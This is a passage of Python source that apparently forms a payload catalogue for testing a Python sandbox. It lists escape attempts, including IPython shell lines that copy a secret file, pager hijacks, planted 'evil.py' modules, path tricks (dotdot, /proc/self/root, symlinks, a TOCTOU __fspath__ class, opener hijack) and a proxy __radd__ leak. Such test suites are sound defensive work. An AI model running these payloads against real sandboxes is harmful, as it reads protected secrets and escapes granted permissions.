    "help/breakpoint/input/pagers",
    """
import pdb
p = pdb.Pdb()
loot = p.curframe if hasattr(p, 'curframe') else open('@secret@').read()
""",
)
P(
    "help-object-pager",
    _D,
    "help/breakpoint/input/pagers",
    """
import pydoc
pydoc.pager = lambda text: open('@marker@', 'w').write(text)
help(len)
""",
    canary="marker",
)

# -- notebook surface (engine-level) -------------------------------------------------------
_K = "notebook surface"
P(
    "bang-shell-line",
    _K,
    "IPython (engine-level)",
    "!cat @secret@ > @marker@",
    canary="marker",
    plain="ipython",
)
P(
    "percent-magic-line",
    _K,
    "IPython (engine-level)",
    "%sx cat @secret@ > @marker@",
    canary="marker",
    plain="ipython",
)
P(
    "indented-bang-line",
    _K,
    "IPython (engine-level)",
    "if True:\n    !cat @secret@ > @marker@",
    canary="marker",
    plain="ipython",
)
P(
    "get-ipython-system",
    _K,
    "IPython (engine-level)",
    "get_ipython().system('cat @secret@ > @marker@')",
    canary="marker",
    plain="ipython",
)
P(
    "exit-ip-shell",
    _K,
    "IPython (engine-level)",
    "import builtins as b\nb.exit._ip.system('cat @secret@ > @marker@')"
    if False
    else "get_ipython().run_line_magic('sx', 'cat @secret@ > @marker@')",
    canary="marker",
    plain="ipython",
)

# -- write-then-import ----------------------------------------------------------------------
_W = "write-then-import"
_PLANT = "open('@marker@', 'w').write('planted')\n"
P(
    "plant-module-in-syspath-package",
    _W,
    "write-then-import",
    f"open('@plant@/evil.py', 'w').write({_PLANT!r})",
    canary="marker",
    needs=("plant", "import-later"),
)
P(
    "plant-module-via-pathlike",
    _W,
    "write-then-import",
    f"""
class P:
    def __fspath__(self):
        return '@plant@/evil.py'
open(P(), 'w').write({_PLANT!r})
""",
    canary="marker",
    needs=("plant", "import-later"),
)
P(
    "plant-module-via-dotdot",
    _W,
    "write-then-import",
    f"open('@plant@/../' + '@plantmod@' + '/evil.py', 'w').write({_PLANT!r})",
    canary="marker",
    needs=("plant", "import-later"),
)
P(
    "plant-then-import-in-capsule",
    _W,
    "write-then-import",
    f"""
open('@plant@/evil.py', 'w').write({_PLANT!r})
import importlib
""",
    canary="marker",
    needs=("plant", "import-later"),
)

# -- paths ----------------------------------------------------------------------------------
_X = "paths"
P("path-direct-secret", _X, "path tricks", "loot = open('@secret@').read()")
P("path-symlink-in-grant", _X, "path tricks", "loot = open('@granted@/link').read()")
P(
    "path-dir-symlink-in-grant",
    _X,
    "path tricks",
    "loot = open('@granted@/dirlink/secret.txt').read()",
)
P("path-dotdot", _X, "path tricks", "loot = open('@granted@/../outside/secret.txt').read()")
P("path-proc-self-root", _X, "path tricks", "loot = open('/proc/self/root@secret@').read()")
P("path-proc-self-fd", _X, "path tricks", "loot = open('/proc/self/fd/@fd@').read()")
P("path-hard-link", _X, "path tricks", "loot = open('@granted@/hard').read()", needs=("hard",))
P(
    "path-relative-after-chdir",
    _X,
    "path tricks",
    "loot = open('../outside/secret.txt').read()",
    needs=("chdir",),
)
P("path-fd-integer", _X, "path tricks", "loot = open(@fd@, closefd=False).read()")
P(
    "path-pathlike-toctou",
    _X,
    "path tricks",
    """
class P:
    n = 0
    def __fspath__(self):
        P.n += 1
        return '@granted@/ok.txt' if P.n == 1 else '@secret@'
loot = open(P()).read() + open(P()).read()
""",
)
P("path-bytes-name", _X, "path tricks", "loot = open(b'@secret@').read()")
P(
    "path-str-subclass",
    _X,
    "path tricks",
    """
class S(str):
    def __fspath__(self):
        return '@secret@'
loot = open(S('@granted@/ok.txt')).read() + open(S('@secret@')).read()
""",
)
P(
    "path-write-grant-no-read",
    _X,
    "path tricks",
    """
open('@writable@/x', 'w').write('x')
loot = open('@writable@/../outside/secret.txt', 'r+').read()
""",
)
P(
    "path-opener-argument",
    _X,
    "path tricks",
    """
import os
loot = open('@granted@/ok.txt', opener=lambda p, f: os.open('@secret@', f)).read()
""",
)
P(
    "trusted-add-hands-private-to-radd",
    "proxy internals",
    "attacks on proxies",
    """
got = []
class Tail:
    def __radd__(self, other):
        got.append(other)
        return 'x'
vault.combine(Tail())
loot = got
""",
    canary="token",
)
P(
    "plant-module-two-levels-down",
    "write-then-import",
    "write-then-import",
    """
open('@plant@/evil.py', 'w').write("open('@marker@', 'w').write('planted')")
""",
    canary="marker",
    needs=("plant", "import-later"),
)


# -- the boundary: trusted code calling capsule code (payloads_boundary.py) -----------------
from .payloads_boundary import BOUNDARY  # noqa: E402

for _entry in BOUNDARY:
    _name, _row, _source, _canary = _entry[:4]
    P(
        _name,
        _row,
        "the boundary",
        _source,
        canary=_canary,
        **(_entry[4] if len(_entry) > 4 else {}),
    )
